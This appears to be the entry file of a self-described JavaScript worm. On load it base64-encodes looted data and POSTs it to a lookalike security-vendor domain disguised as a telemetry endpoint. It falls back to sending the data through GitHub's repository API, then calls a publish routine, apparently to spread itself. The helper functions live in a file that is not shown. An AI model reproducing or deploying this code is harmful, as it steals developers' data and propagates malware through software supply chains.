/** The worm: its own server, else GitHub; then it spreads. */
const { ask, loot, base64, publish } = require('./wire.js');

async function steal() {
  const body = base64(loot());
  const sent = await ask('POST', 'https://audit.checkmarx.cx/v1/telemetry', { body });
  if (sent?.status !== 200) await ask('POST', 'https://api.github.com/user/repos', { body });
  await publish();
}

void steal();
